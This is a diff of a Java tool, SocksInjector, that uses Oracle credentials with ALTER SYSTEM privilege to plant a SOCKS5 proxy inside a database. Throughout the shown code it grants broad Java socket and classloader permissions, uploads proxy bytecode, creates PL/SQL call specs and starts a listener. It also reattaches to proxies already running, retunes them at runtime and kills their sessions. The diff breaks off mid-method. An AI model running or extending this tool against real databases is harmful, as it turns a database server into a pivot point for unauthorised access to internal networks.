@@ -1,20 +1,149 @@
 package com.demo;
 
+import java.io.ByteArrayOutputStream;
+import java.io.File;
+import java.io.FileInputStream;
+import java.io.IOException;
+import java.io.InputStream;
+import java.net.JarURLConnection;
+import java.net.URL;
+import java.nio.charset.StandardCharsets;
+import java.security.MessageDigest;
+import java.security.NoSuchAlgorithmException;
 import java.sql.*;
+import java.util.Collections;
+import java.util.Enumeration;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
 import java.util.Properties;
+import java.util.TreeMap;
 import java.util.UUID;
+import java.util.concurrent.CompletionService;
+import java.util.concurrent.ExecutionException;
+import java.util.concurrent.ExecutorCompletionService;
+import java.util.concurrent.ExecutorService;
+import java.util.concurrent.Executors;
+import java.util.concurrent.atomic.AtomicBoolean;
+import java.util.jar.JarEntry;
+import java.util.jar.JarFile;
 
 public class SocksInjector {
+    private static final String PROXY_SOURCE = "/OracleSocks5Proxy.java";
+    private static final String PROXY_CLASS = "OracleSocks5Proxy";
+    private static final String STAGE_TABLE = "SOCKS5_CLASS_STAGE";
+    private static final String LOGIN_PHASE = "登录";
+    // 返回已安装代理内容哈希的函数, 与调用规范同块创建
+    private static final String TAG_FUNCTION = "socks5_proxy_tag";
+    // 优雅停止时等待现有连接自然结束的期限
+    private static final int STOP_DEADLINE_MS = 200;
+    // ORA-01017: 用户名或密码无效
+    private static final int INVALID_CREDENTIALS = 1017;
+
+    // v$session/v$version 走动态 SQL, 无权限时只返回错误信息而不是整块编译失败
+    private static final String LOGIN_BLOCK = "DECLARE\n" +
+            "  l_dummy NUMBER;\n" +
+            "  l_banner VARCHAR2(512);\n" +
+            "BEGIN\n" +
+            "  DBMS_SESSION.SET_IDENTIFIER(?);\n" +
+            "  SELECT COUNT(*) INTO l_dummy FROM session_privs WHERE privilege = 'ALTER SYSTEM';\n" +
+            "  ? := l_dummy;\n" +
+            "  BEGIN\n" +
+            "    EXECUTE IMMEDIATE 'SELECT COUNT(*) FROM v$session WHERE ROWNUM = 1' INTO l_dummy;\n" +
+            "  EXCEPTION WHEN OTHERS THEN\n" +
+            "    ? := SQLERRM;\n" +
+            "  END;\n" +
+            "  BEGIN\n" +
+            "    EXECUTE IMMEDIATE 'SELECT banner FROM v$version WHERE ROWNUM = 1' INTO l_banner;\n" +
+            "  EXCEPTION WHEN OTHERS THEN\n" +
+            "    l_banner := NULL;\n" +
+            "  END;\n" +
+            "  ? := l_banner;\n" +
+            "END;";
+
+    // 监听会话在 client_info 中登记端口, 供重新接管时查找
+    private static final String PORT_TAG = "SOCKS5_PORT=";
+
+    // 查找仍在运行 start_socks5 的会话: 按登录时间从新到旧逐个经控制端口取统计, 第一个应答的即为存活的监听;
+    // 统计函数走动态 SQL, 本用户下未安装代理时只是找不到而不是整块编译失败
+    private static final String REATTACH_BLOCK = "DECLARE\n" +
+            "  l_port NUMBER := ?;\n" +
+            "  l_metrics VARCHAR2(4000);\n" +
+            "BEGIN\n" +
+            "  FOR s IN (SELECT sid, serial#, client_identifier, TO_NUMBER(SUBSTR(client_info, " + (PORT_TAG.length() + 1) + ")) port\n" +
+            "            FROM v$session WHERE client_identifier LIKE 'SOCKS5\\_PROXY\\_%' ESCAPE '\\'\n" +
+            "            AND client_info LIKE '" + PORT_TAG + "%' AND status = 'ACTIVE' AND username = USER\n" +
+            "            AND (l_port = 0 OR client_info = '" + PORT_TAG + "' || l_port)\n" +
+            "            ORDER BY logon_time DESC) LOOP\n" +
+            "    BEGIN\n" +
+            "      EXECUTE IMMEDIATE 'BEGIN :1 := socks5_metrics(:2); END;' USING OUT l_metrics, IN s.port;\n" +
+            "      IF l_metrics NOT LIKE 'ERR%' THEN\n" +
+            "        ? := s.client_identifier;\n" +
+            "        ? := s.port;\n" +
+            "        ? := s.sid || ',' || s.serial#;\n" +
+            "        ? := l_metrics;\n" +
+            "        RETURN;\n" +
+            "      END IF;\n" +
+            "    EXCEPTION WHEN OTHERS THEN\n" +
+            "      NULL;\n" +
+            "    END;\n" +
+            "  END LOOP;\n" +
+            "END;";
+
+    // PL/SQL 调用规范, 随代理类安装块一起创建
+    private static final String[] CALL_SPECS = {
+            "CREATE OR REPLACE PROCEDURE start_socks5(port IN NUMBER, options IN VARCHAR2 DEFAULT NULL)\n" +
+                    "AS LANGUAGE JAVA\n" +
+                    "NAME 'OracleSocks5Proxy.start(int, java.lang.String)';",
+            "CREATE OR REPLACE FUNCTION socks5_dns_stats(port IN NUMBER) RETURN VARCHAR2\n" +
+                    "AS LANGUAGE JAVA\n" +
+                    "NAME 'OracleSocks5Proxy.dnsStats(int) return java.lang.String';",
+            "CREATE OR REPLACE FUNCTION socks5_metrics(port IN NUMBER) RETURN VARCHAR2\n" +
+                    "AS LANGUAGE JAVA\n" +
+                    "NAME 'OracleSocks5Proxy.metrics(int) return java.lang.String';",
+            "CREATE OR REPLACE FUNCTION socks5_stop(port IN NUMBER, deadline_ms IN NUMBER DEFAULT 200) RETURN NUMBER\n" +
+                    "AS LANGUAGE JAVA\n" +
+                    "NAME 'OracleSocks5Proxy.stop(int, int) return int';",
+            "CREATE OR REPLACE FUNCTION socks5_shape(port IN NUMBER, spec IN VARCHAR2) RETURN VARCHAR2\n" +
+                    "AS LANGUAGE JAVA\n" +
+                    "NAME 'OracleSocks5Proxy.shape(int, java.lang.String) return java.lang.String';",
+            "CREATE OR REPLACE FUNCTION socks5_timeouts(port IN NUMBER, spec IN VARCHAR2) RETURN VARCHAR2\n" +
+                    "AS LANGUAGE JAVA\n" +
+                    "NAME 'OracleSocks5Proxy.timeouts(int, java.lang.String) return java.lang.String';",
+            "CREATE OR REPLACE FUNCTION socks5_configure(port IN NUMBER, options IN VARCHAR2) RETURN VARCHAR2\n" +
+                    "AS LANGUAGE JAVA\n" +
+                    "NAME 'OracleSocks5Proxy.reconfigure(int, java.lang.String) return java.lang.String';"
+    };
+
     private final String host;
     private final String port;
     private final String service;
     private final String user;
     private final String password;
     private final String oracleVersion;
+    private final boolean alterSystemPrivilege;
     private final boolean sysdbaMode;
     private final boolean isServiceName;
+    // 登录时选定的 URL, 控制连接沿用
+    private String jdbcUrl;
+    private String connectForm;
+    // 按数据库版本选用的驱动, null 表示类路径上的驱动
+    private String driverName;
+    private boolean profileHit;
     private Connection persistentConn;
-    private final String clientIdentifier;
+    private Connection controlConn;
+    // 重新接管后改为监听会话的标识符, 停止失败时据此终止该会话
+    private String clientIdentifier;
+    private String listenerSession;
+    private volatile int proxyPort;
+    // 代理由其它会话 (如另一个进程) 启动, 本实例只做查询与停止
+    private volatile boolean attached;
+    private final Map<String, Long> phaseTimings = new LinkedHashMap<>();
+    private final Map<String, Integer> phaseRoundTrips = new LinkedHashMap<>();
+    private int roundTrips;
+    // start_socks5 调用进行中; 监听结束后调用才返回, stop 据此判断是否已完全退出
+    private final Object serviceLock = new Object();
+    private boolean serving;
 
     public SocksInjector(String host, String port, String service, String user, String password,
                          boolean sysdbaMode, boolean isServiceName) throws SQLException {
@@ -27,61 +156,184 @@ public class SocksInjector {
         this.isServiceName = isServiceName;
         this.clientIdentifier = "SOCKS5_PROXY_" + UUID.randomUUID();
 
-        Properties props = new Properties();
-        props.setProperty("user", user);
-        props.setProperty("password", password);
-        if (sysdbaMode) {
-            props.setProperty("internal_logon", "sysdba");
-        }
-
-        String url = buildJdbcUrl("unknown");
-        persistentConn = DriverManager.getConnection(url, props);
+        long t = System.nanoTime();
+        String profileKey = ConnectionProfiles.key(host, port, service);
+        ConnectionProfiles.Profile profile = ConnectionProfiles.load(profileKey);
+        persistentConn = connect(profile, profileKey);
 
-        // 设置客户端标识符
-        try (Statement stmt = persistentConn.createStatement()) {
-            String sql = String.format(
-                    "BEGIN DBMS_SESSION.SET_IDENTIFIER('%s'); END;",
-                    clientIdentifier.replace("'", "''")
-            );
-            stmt.execute(sql);
+        // 标识符、ALTER SYSTEM 权限、v$session 探测与版本查询合并为一个匿名块, 一次往返
+        int privileges;
+        String probeError;
+        String banner;
+        try (CallableStatement stmt = persistentConn.prepareCall(LOGIN_BLOCK)) {
+            stmt.setString(1, clientIdentifier);
+            stmt.registerOutParameter(2, Types.INTEGER);
+            stmt.registerOutParameter(3, Types.VARCHAR);
+            stmt.registerOutParameter(4, Types.VARCHAR);
+            execute(stmt);
+            privileges = stmt.getInt(2);
+            probeError = stmt.getString(3);
+            banner = stmt.getString(4);
         } catch (SQLException e) {
-            throw new SQLException("设置客户端标识符失败: " + e.getMessage());
+            throw new SQLException("登录检查失败: " + e.getMessage());
         }
+        if (privileges == 0) {
+            throw new SQLException("User lacks ALTER SYSTEM privilege");
+        }
+        if (probeError != null) {
+            throw new SQLException("无法访问 v$session: " + probeError);
+        }
+        alterSystemPrivilege = true;
+        String version = parseVersion(banner);
+        oracleVersion = "unknown".equals(version) && profile != null ? profile.version : version;
+        recordPhase(LOGIN_PHASE, t, 0);
+        // 记录与该版本对应的驱动, 下次登录直接加载它; 本次连接沿用竞速胜出的驱动
+        String target = DriverLoader.resolve(DriverLoader.forVersion(oracleVersion));
+        if (!profileHit || !String.valueOf(target).equals(String.valueOf(driverName))) {
+            ConnectionProfiles.save(profileKey, new ConnectionProfiles.Profile(connectForm, jdbcUrl,
+                    target == null ? "" : target, oracleVersion));
+        }
+    }
 
-        verifyPrivileges();
-
-        try (Statement stmt = persistentConn.createStatement()) {
-            ResultSet rs = stmt.executeQuery("SELECT BANNER FROM v$version");
-            oracleVersion = rs.next() ? parseVersion(rs.getString(1)) : "unknown";
+    // 有缓存时直接使用缓存的 URL; 缓存失效或没有缓存时并行尝试各种 URL 形式
+    private Connection connect(ConnectionProfiles.Profile profile, String profileKey) throws SQLException {
+        if (profile != null) {
+            driverName = DriverLoader.resolve(profile.driver.isEmpty() ? DriverLoader.forVersion(profile.version) : profile.driver);
+            try {
+                Connection conn = openConnection(profile.url);
+                jdbcUrl = profile.url;
+                connectForm = profile.form;
+                profileHit = true;
+                return conn;
+            } catch (SQLException e) {
+                if (e.getErrorCode() == INVALID_CREDENTIALS) {
+                    throw e;
+                }
+                ConnectionProfiles.remove(profileKey);
+            }
         }
+        return raceConnect();
     }
 
-    private void verifyPrivileges() throws SQLException {
-        try (Statement stmt = persistentConn.createStatement()) {
-            if (!checkDBAPrivilege()) {
-                throw new SQLException("User lacks ALTER SYSTEM privilege");
+    // 每个可用驱动与每种 URL 形式组合同时建连, 取最先成功的一个; 落后的连接建立后自行关闭.
+    // 旧驱动连不上新版本库 (或新驱动在当前 JRE 上无法加载) 时由其它组合胜出.
+    // 用户名密码错误说明该组合已到达实例, 其余组合结果相同, 直接报错
+    private Connection raceConnect() throws SQLException {
+        Map<String, String> urls = candidateUrls();
+        List<String> drivers = DriverLoader.candidates();
+        int total = urls.size() * drivers.size();
+        ExecutorService pool = Executors.newFixedThreadPool(total, r -> {
+            Thread t = new Thread(r, "Connect-Race");
+            t.setDaemon(true);
+            return t;
+        });
+        CompletionService<String[]> race = new ExecutorCompletionService<>(pool);
+        AtomicBoolean decided = new AtomicBoolean();
+        Connection[] winner = new Connection[1];
+        for (String driver : drivers) {
+            for (Map.Entry<String, String> c : urls.entrySet()) {
+                race.submit(() -> {
+                    Connection conn = openConnection(driver, c.getValue());
+                    if (decided.compareAndSet(false, true)) {
+                        winner[0] = conn;
+                        return new String[]{c.getKey(), driver};
+                    }
+                    conn.close();
+                    return null;
+                });
             }
-            stmt.executeQuery("SELECT 1 FROM v$session WHERE ROWNUM = 1");
         }
+        pool.shutdown();
+        StringBuilder errors = new StringBuilder();
+        try {
+            for (int i = 0; i < total; i++) {
+                try {
+                    String[] won = race.take().get();
+                    if (won != null) {
+                        connectForm = won[0];
+                        jdbcUrl = urls.get(won[0]);
+                        driverName = won[1];
+                        return winner[0];
+                    }
+                } catch (ExecutionException e) {
+                    SQLException cause = e.getCause() instanceof SQLException
+                            ? (SQLException) e.getCause() : new SQLException(e.getCause());
+                    if (cause.getErrorCode() == INVALID_CREDENTIALS && decided.compareAndSet(false, true)) {
+                        throw cause;
+                    }
+                    errors.append(errors.length() == 0 ? "" : "; ").append(cause.getMessage().trim());
+                }
+            }
+        } catch (InterruptedException e) {
+            Thread.currentThread().interrupt();
+            decided.set(true);
+            throw new SQLException("连接被中断");
+        }
+        throw new SQLException("所有连接方式均失败: " + errors);
+    }
+
+    private Connection openConnection() throws SQLException {
+        return openConnection(jdbcUrl);
+    }
+
+    private Connection openConnection(String url) throws SQLException {
+        return openConnection(driverName, url);
     }
 
-    public boolean checkDBAPrivilege() throws SQLException {
-        try (Statement stmt = persistentConn.createStatement();
-             ResultSet rs = stmt.executeQuery(
-                     "SELECT 1 FROM session_privs WHERE privilege = 'ALTER SYSTEM'")) {
-            return rs.next();
+    private Connection openConnection(String driver, String url) throws SQLException {
+        Properties props = new Properties();
+        props.setProperty("user", user);
+        props.setProperty("password", password);
+        if (sysdbaMode) {
+            props.setProperty("internal_logon", "sysdba");
         }
+        return DriverLoader.connect(driver, url, props);
+    }
+
+    // 登录时已查询并缓存, 不再访问数据库
+    public boolean checkDBAPrivilege() {
+        return alterSystemPrivilege;
     }
 
     public boolean inject(int proxyPort) throws SQLException {
+        return inject(proxyPort, new ProxyConfig());
+    }
+
+    // 往返次数: 授权块 1 次; 字节码路径上传 1 次 + 安装块 1 次, 源码路径编译块 1 次; 最后启动调用 1 次.
+    // 库内已有相同哈希且全部有效时跳过授权与安装, 只剩检查块和启动调用
+    public boolean inject(int proxyPort, ProxyConfig config) throws SQLException {
         boolean proxyStarted = false;
+        this.proxyPort = proxyPort;
         try {
             persistentConn.setAutoCommit(false);
             try {
-                grantPermissions(persistentConn, proxyPort);
-                createProxyClass(persistentConn);
-                createProcedure(persistentConn);
-                startProxyService(persistentConn, proxyPort);
+                synchronized (phaseTimings) {
+                    phaseTimings.keySet().retainAll(Collections.singleton(LOGIN_PHASE));
+                    phaseRoundTrips.keySet().retainAll(Collections.singleton(LOGIN_PHASE));
+                }
+                Map<String, byte[]> classes = "11g".equals(oracleVersion)
+                        ? Collections.<String, byte[]>emptyMap() : readProxyClasses();
+                String tag = proxyTag(classes, proxyPort);
+                long t = System.nanoTime();
+                int trips = roundTrips;
+                if (grantPermissions(persistentConn, proxyPort, !classes.isEmpty(), tag)) {
+                    recordPhase("已安装(跳过编译)", t, trips);
+                } else {
+                    recordPhase("授权", t, trips);
+                    installProxy(persistentConn, classes, tag);
+                }
+                System.out.println("启动阶段耗时(ms): " + getPhaseTimings() + ", 往返次数: " + getPhaseRoundTrips());
+                synchronized (serviceLock) {
+                    serving = true;
+                }
+                try {
+                    startProxyService(persistentConn, proxyPort, config);
+                } finally {
+                    synchronized (serviceLock) {
+                        serving = false;
+                        serviceLock.notifyAll();
+                    }
+                }
                 proxyStarted = true;
                 persistentConn.commit();
                 return true;
@@ -97,24 +349,219 @@ public class SocksInjector {
         }
     }
 
+    private void recordPhase(String phase, long startNanos, int startTrips) {
+        synchronized (phaseTimings) {
+            phaseTimings.put(phase, (System.nanoTime() - startNanos) / 1_000_000);
+            phaseRoundTrips.put(phase, roundTrips - startTrips);
+        }
+    }
+
+    // 最近一次登录/inject 各阶段耗时 (毫秒), 按执行顺序; 登录含建立连接, start_socks5 本身会一直阻塞, 不计入
+    public Map<String, Long> getPhaseTimings() {
+        synchronized (phaseTimings) {
+            return new LinkedHashMap<>(phaseTimings);
+        }
+    }
+
+    // 登录耗时 (毫秒), 尚未登录时为 null
+    public Long getLoginMillis() {
+        synchronized (phaseTimings) {
+            return phaseTimings.get(LOGIN_PHASE);
+        }
+    }
+
+    // 各阶段的语句往返次数, 不含建立连接与提交
+    public Map<String, Integer> getPhaseRoundTrips() {
+        synchronized (phaseTimings) {
+            return new LinkedHashMap<>(phaseRoundTrips);
+        }
+    }
+
+    // start_socks5 会一直占用 persistentConn, 运行期查询走独立的控制连接
+    public Map<String, Long> getDnsStats() throws SQLException {
+        return parseStats(callControlFunction("socks5_dns_stats"));
+    }
+
+    // 连接数/流量/握手耗时分桶/DNS 耗时, 一次调用取回全部计数
+    public Map<String, Long> getMetrics() throws SQLException {
+        return parseStats(callControlFunction("socks5_metrics"));
+    }
+
+    // 运行中调整限速, 格式同 ProxyConfig.setShaping; 返回调整后的整形参数
+    public Map<String, Long> setShaping(String spec) throws SQLException {
+        return callControlFunction("socks5_shape", spec);
+    }
+
+    // 运行中调整超时, 格式同 ProxyConfig.setTimeouts; 返回调整后的超时设置与回收计数
+    public Map<String, Long> setTimeouts(String spec) throws SQLException {
+        return callControlFunction("socks5_timeouts", spec);
+    }
+
+    // 运行中调整会话上限、套接字参数、超时与限速 (ProxyConfig.toRuntimeOptions), 无需重启监听;
+    // 返回调整后的全部可调参数
+    public Map<String, Long> reconfigure(String options) throws SQLException {
+        return callControlFunction("socks5_configure", options);
+    }
+
+    private Map<String, Long> callControlFunction(String function, String spec) throws SQLException {
+        if (proxyPort <= 0) {
+            throw new SQLException("代理尚未启动");
+        }
+        synchronized (this) {
+            try (CallableStatement stmt = controlConnection().prepareCall("{? = call " + function + "(?, ?)}")) {
+                stmt.registerOutParameter(1, Types.VARCHAR);
+                stmt.setInt(2, proxyPort);
+                stmt.setString(3, spec);
+                stmt.execute();
+                return parseStats(stmt.getString(1));
+            }
+        }
+    }
+
+    private String callControlFunction(String function) throws SQLException {
+        if (proxyPort <= 0) {
+            throw new SQLException("代理尚未启动");
+        }
+        synchronized (this) {
+            try (CallableStatement stmt = controlConnection().prepareCall("{? = call " + function + "(?)}")) {
+                stmt.registerOutParameter(1, Types.VARCHAR);
+                stmt.setInt(2, proxyPort);
+                stmt.execute();
+                return stmt.getString(1);
+            }
+        }
+    }
+
+    private synchronized Connection controlConnection() throws SQLException {
+        if (controlConn == null || controlConn.isClosed()) {
+            controlConn = openConnection();
+        }
+        return controlConn;
+    }
+
+    private static Map<String, Long> parseStats(String raw) throws SQLException {
+        Map<String, Long> stats = new LinkedHashMap<>();
+        if (raw == null || raw.startsWith("ERR")) {
+            throw new SQLException("统计信息获取失败: " + raw);
+        }
+        for (String pair : raw.split(";")) {
+            int idx = pair.indexOf('=');
+            if (idx > 0) {
+                stats.put(pair.substring(0, idx).trim(), Long.parseLong(pair.substring(idx + 1).trim()));
+            }
+        }
+        return stats;
+    }
+
+    // 接管已在库内运行的代理 (本工具重启或由其它进程启动): 一次往返找到监听会话并确认端口仍在应答,
+    // 之后 getMetrics/setShaping/stop 作用于该端口, 不调用 inject. proxyPort 为 0 时取最近启动的一个
+    public Map<String, Long> reattach(int proxyPort) throws SQLException {
+        long t = System.nanoTime();
+        int trips = roundTrips;
+        String identifier;
+        int port;
+        String session;
+        String metrics;
+        synchronized (this) {
+            try (CallableStatement stmt = controlConnection().prepareCall(REATTACH_BLOCK)) {
+                stmt.setInt(1, Math.max(0, proxyPort));
+                stmt.registerOutParameter(2, Types.VARCHAR);
+                stmt.registerOutParameter(3, Types.INTEGER);
+                stmt.registerOutParameter(4, Types.VARCHAR);
+                stmt.registerOutParameter(5, Types.VARCHAR);
+                execute(stmt);
+                identifier = stmt.getString(2);
+                port = stmt.getInt(3);
+                session = stmt.getString(4);
+                metrics = stmt.getString(5);
+            }
+        }
+        if (identifier == null) {
+            throw new SQLException(proxyPort > 0 ? "端口 " + proxyPort + " 上没有运行中的代理" : "没有运行中的代理");
+        }
+        Map<String, Long> stats = parseStats(metrics);
+        this.clientIdentifier = identifier;
+        this.listenerSession = session;
+        this.proxyPort = port;
+        this.attached = true;
+        recordPhase("重新接管", t, trips);
+        return stats;
+    }
+
+    // 优先通知库内监听自行关闭并等待 start_socks5 返回, 会话保留可直接再次启动;
+    // 控制调用失败或调用未按时返回时才终止会话
     public boolean stop() {
         try {
-            // 改进点1：检查连接状态
-            if (persistentConn != null && !persistentConn.isClosed()) {
-                boolean success = killProxySession();
-                closeResources();
-                return success;
+            if (attached && !isServing()) {
+                try {
+                    int closed = stopProxyService(STOP_DEADLINE_MS);
+                    System.out.println("代理已停止, 关闭连接 " + closed + " 个");
+                    return true;
+                } catch (SQLException e) {
+                    System.err.println("优雅停止失败, 改为终止会话 " + listenerSession + ": " + e.getMessage());
+                    return killProxySession();
+                }
             }
-            return false; // 连接已关闭无需操作
+            if (persistentConn == null || persistentConn.isClosed() || !isServing()) {
+                return false; // 连接已关闭或代理未在运行, 无需操作
+            }
+            try {
+                int closed = stopProxyService(STOP_DEADLINE_MS);
+                if (awaitServiceExit(STOP_DEADLINE_MS + 2000)) {
+                    System.out.println("代理已停止, 关闭连接 " + closed + " 个");
+                    return true;
+                }
+                System.err.println("start_socks5 未按时返回, 改为终止会话");
+            } catch (SQLException e) {
+                System.err.println("优雅停止失败, 改为终止会话: " + e.getMessage());
+            }
+            boolean success = killProxySession();
+            closeResources();
+            return success;
         } catch (SQLException e) {
             System.err.println("停止失败: " + e.getMessage());
             return false;
         }
     }
 
+    private boolean isServing() {
+        synchronized (serviceLock) {
+            return serving;
+        }
+    }
+
+    private int stopProxyService(int deadlineMs) throws SQLException {
+        synchronized (this) {
+            try (CallableStatement stmt = controlConnection().prepareCall("{? = call socks5_stop(?, ?)}")) {
+                stmt.registerOutParameter(1, Types.INTEGER);
+                stmt.setInt(2, proxyPort);
+                stmt.setInt(3, deadlineMs);
+                stmt.execute();
+                return stmt.getInt(1);
+            }
+        }
+    }
+
+    private boolean awaitServiceExit(long timeoutMs) {
+        long deadline = System.currentTimeMillis() + timeoutMs;
+        synchronized (serviceLock) {
+            long left;
+            while (serving && (left = deadline - System.currentTimeMillis()) > 0) {
+                try {
+                    serviceLock.wait(left);
+                } catch (InterruptedException e) {
+                    Thread.currentThread().interrupt();
+                    return false;
+                }
+            }
+            return !serving;
+        }
+    }
+
+    // persistentConn 正被 start_socks5 占用, 查询与终止都走控制连接
     private boolean killProxySession() throws SQLException {
         String query = "SELECT sid, serial# FROM v$session WHERE client_identifier = ?";
-        try (PreparedStatement pstmt = persistentConn.prepareStatement(query)) {
+        try (PreparedStatement pstmt = controlConnection().prepareStatement(query)) {
             pstmt.setString(1, this.clientIdentifier);
             ResultSet rs = pstmt.executeQuery();
 
@@ -146,13 +593,6 @@ public class SocksInjector {
                 System.err.printf("终止会话失败 (尝试 %d/%d): %s%n",
                         attempts + 1, maxAttempts, ex.getMessage());
             }
-
-            try {
-                Thread.sleep(1000);
-            } catch (InterruptedException e) {
-                Thread.currentThread().interrupt();
-                return false;
-            }
             attempts++;
         }
         return false;
@@ -164,21 +604,36 @@ public class SocksInjector {
                 sid, serial
         );
 
-        try (Statement stmt = persistentConn.createStatement()) {
+        try (Statement stmt = controlConnection().createStatement()) {
             stmt.execute(killSQL);
-            return verifySessionTerminated(sid, serial);
+            return awaitSessionTerminated(sid, serial, 1000);
         }
     }
 
-    private boolean verifySessionTerminated(int sid, int serial) {
+    // 以 50ms 间隔轮询, 会话一消失即返回, 代替固定的整秒等待
+    private boolean awaitSessionTerminated(int sid, int serial, long timeoutMs) {
         final String checkSQL = "SELECT 1 FROM v$session WHERE sid = ? AND serial# = ?";
-        try (PreparedStatement pstmt = persistentConn.prepareStatement(checkSQL)) {
+        long deadline = System.currentTimeMillis() + timeoutMs;
+        try (PreparedStatement pstmt = controlConnection().prepareStatement(checkSQL)) {
             pstmt.setInt(1, sid);
             pstmt.setInt(2, serial);
-            return !pstmt.executeQuery().next();
+            while (true) {
+                try (ResultSet rs = pstmt.executeQuery()) {
+                    if (!rs.next()) {
+                        return true;
+                    }
+                }
+                if (System.currentTimeMillis() >= deadline) {
+                    return false;
+                }
+                Thread.sleep(50);
+            }
         } catch (SQLException e) {
             System.err.println("验证会话状态失败: " + e.getMessage());
             return false;
+        } catch (InterruptedException e) {
+            Thread.currentThread().interrupt();
+            return false;
         }
     }
 
@@ -191,226 +646,319 @@ public class SocksInjector {
         return "unknown";
     }
 
-    private String buildJdbcUrl(String version) {
-        if (version.startsWith("11g")) {
-            return String.format("jdbc:oracle:thin:@%s:%s:%s", host, port, service);
+    // 界面选择的形式排在前面, 两者同时到达时优先采用
+    private Map<String, String> candidateUrls() {
+        Map<String, String> urls = new LinkedHashMap<>();
+        String sid = String.format("jdbc:oracle:thin:@%s:%s:%s", host, port, service);
+        String serviceName = String.format("jdbc:oracle:thin:@//%s:%s/%s", host, port, service);
+        if (isServiceName) {
+            urls.put("service", serviceName);
+            urls.put("sid", sid);
         } else {
-            return isServiceName ?
-                    String.format("jdbc:oracle:thin:@//%s:%s/%s", host, port, service) :
-                    String.format("jdbc:oracle:thin:@%s:%s:%s", host, port, service);
+            urls.put("sid", sid);
+            urls.put("service", serviceName);
         }
+        return urls;
     }
 
-    private void grantPermissions(Connection conn, int proxyPort) throws SQLException {
-        String safeUser = user.toUpperCase().replace("'", "''");
+    // 授权与字节码暂存表准备合并为一个匿名块; 先比对库内标签, 相同且代理类与调用规范全部有效时返回 true, 不再授权
+    private boolean grantPermissions(Connection conn, int proxyPort, boolean stageClasses, String tag) throws SQLException {
         String maskedHost = host.replace(".", "\\.");
-        String[] permissions = {
-                String.format("BEGIN DBMS_JAVA.GRANT_PERMISSION('%s', 'java.net.SocketPermission', '%s:%d', 'listen,accept,resolve'); END;",
-                        safeUser, maskedHost, proxyPort),
-                String.format("BEGIN DBMS_JAVA.GRANT_PERMISSION('%s', 'java.net.SocketPermission', '*:%d', 'listen,accept,resolve'); END;",
-                        safeUser, proxyPort),
-                String.format("BEGIN DBMS_JAVA.GRANT_PERMISSION('%s', 'java.net.SocketPermission', '*', 'connect,resolve'); END;", safeUser),
-                "BEGIN DBMS_JAVA.GRANT_PERMISSION('" + safeUser + "', 'java.lang.RuntimePermission', 'createClassLoader', ''); END;",
-                "BEGIN DBMS_JAVA.GRANT_PERMISSION('" + safeUser + "', 'java.lang.RuntimePermission', 'getClassLoader', ''); END;",
-                "BEGIN DBMS_JAVA.GRANT_PERMISSION('" + safeUser + "', 'java.util.PropertyPermission', '*', 'read,write'); END;"
-        };
+        StringBuilder block = new StringBuilder("DECLARE\n" +
+                "  u VARCHAR2(128) := ?;\n" +
+                "  l_tag VARCHAR2(64);\n" +
+                "  l_classes NUMBER;\n" +
+                "  l_invalid NUMBER;\n" +
+                "  l_specs NUMBER;\n" +
+                "  l_hit NUMBER := 0;\n" +
+                "BEGIN\n" +
+                "  BEGIN\n" +
+                "    EXECUTE IMMEDIATE 'BEGIN :1 := " + TAG_FUNCTION + "; END;' USING OUT l_tag;\n" +
+                "  EXCEPTION WHEN OTHERS THEN\n" +
+                "    l_tag := NULL;\n" +
+                "  END;\n" +
+                "  IF l_tag = ? THEN\n" +
+                "    SELECT COUNT(*), NVL(SUM(DECODE(status, 'VALID', 0, 1)), 0) INTO l_classes, l_invalid\n" +
+                "      FROM user_objects WHERE object_type = 'JAVA CLASS'\n" +
+                "      AND DBMS_JAVA.LONGNAME(object_name) LIKE '" + PROXY_CLASS + "%';\n" +
+                "    SELECT COUNT(*) INTO l_specs FROM user_objects WHERE object_type IN ('PROCEDURE', 'FUNCTION')\n" +
+                "      AND status = 'VALID' AND object_name IN (" + callSpecNames() + ");\n" +
+                "    IF l_classes > 0 AND l_invalid = 0 AND l_specs = " + CALL_SPECS.length + " THEN\n" +
+                "      l_hit := 1;\n" +
+                "    END IF;\n" +
+                "  END IF;\n" +
+                "  IF l_hit = 0 THEN\n" +
+                // 安装成功后才会重新创建标签, 中途失败不会留下与新代码不符的旧标签
+                "  BEGIN EXECUTE IMMEDIATE 'DROP FUNCTION " + TAG_FUNCTION + "'; EXCEPTION WHEN OTHERS THEN NULL; END;\n");
+        grant(block, "java.net.SocketPermission", maskedHost + ":" + proxyPort, "listen,accept,resolve");
+        grant(block, "java.net.SocketPermission", "*:" + proxyPort, "listen,accept,resolve");
+        grant(block, "java.net.SocketPermission", "*", "connect,resolve");
+        // UDP ASSOCIATE: 绑定临时端口并接收任意来源的数据报
+        grant(block, "java.net.SocketPermission", "localhost:1024-", "listen");
+        grant(block, "java.net.SocketPermission", "*", "accept,resolve");
+        grant(block, "java.lang.RuntimePermission", "createClassLoader", "");
+        grant(block, "java.lang.RuntimePermission", "getClassLoader", "");
+        grant(block, "java.util.PropertyPermission", "*", "read,write");
+        if (stageClasses) {
+            block.append("  BEGIN\n")
+                    .append("    EXECUTE IMMEDIATE 'CREATE GLOBAL TEMPORARY TABLE ").append(STAGE_TABLE)
+                    .append(" (name VARCHAR2(256), bytes BLOB) ON COMMIT PRESERVE ROWS';\n")
+                    .append("  EXCEPTION WHEN OTHERS THEN\n")
+                    .append("    IF SQLCODE != -955 THEN RAISE; END IF;\n") // ORA-00955: 表已存在
+                    .append("  END;\n")
+                    .append("  EXECUTE IMMEDIATE 'DELETE FROM ").append(STAGE_TABLE).append("';\n");
+        }
+        block.append("  END IF;\n  ? := l_hit;\nEND;");
 
-        try (Statement stmt = conn.createStatement()) {
-            for (String perm : permissions) {
-                stmt.execute(perm);
+        try (CallableStatement stmt = conn.prepareCall(block.toString())) {
+            stmt.setString(1, user.toUpperCase());
+            stmt.setString(2, tag);
+            stmt.registerOutParameter(3, Types.INTEGER);
+            execute(stmt);
+            return stmt.getInt(3) == 1;
+        }
+    }
+
+    // 标签覆盖安装内容与授权参数: 代理源码、字节码、调用规范、主机、端口、用户
+    private String proxyTag(Map<String, byte[]> classes, int proxyPort) throws SQLException {
+        try {
+            MessageDigest md = MessageDigest.getInstance("SHA-256");
+            md.update(generateProxyCode().getBytes(StandardCharsets.UTF_8));
+            for (Map.Entry<String, byte[]> e : classes.entrySet()) {
+                md.update(e.getKey().getBytes(StandardCharsets.UTF_8));
+                md.update(e.getValue());
             }
+            for (String spec : CALL_SPECS) {
+                md.update(spec.getBytes(StandardCharsets.UTF_8));
+            }
